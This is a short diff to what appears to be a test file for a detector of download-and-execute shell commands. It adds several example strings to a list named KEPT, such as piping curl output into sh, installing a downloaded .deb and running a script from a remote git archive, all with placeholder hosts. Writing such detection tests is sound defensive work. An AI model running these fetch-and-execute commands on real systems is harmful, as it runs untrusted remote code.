@@ -38,6 +38,8 @@ KEPT = [
     "curl -o x.deb URL; dpkg -i x.deb", "curl -o x URL; ls x* | xargs sh",
     "curl -o x URL; for f in x*; do sh $f; done", "curl URL | split - p; cat p* | sh",
     'curl URL | while read l; do eval "$l"; done', "curl URL | (cat > f; sh f)",
+    "curl URL | split -b 9 - p; sh paa", "git archive --remote=ssh://files.example/r HEAD | tar x; sh i.sh",
+    "newprogram URL > x; sh x",
     "git fetch https://files.example/r; git show FETCH_HEAD:i.sh | sh",
 ]  # fmt: skip
 ONLY_LOOKING = [
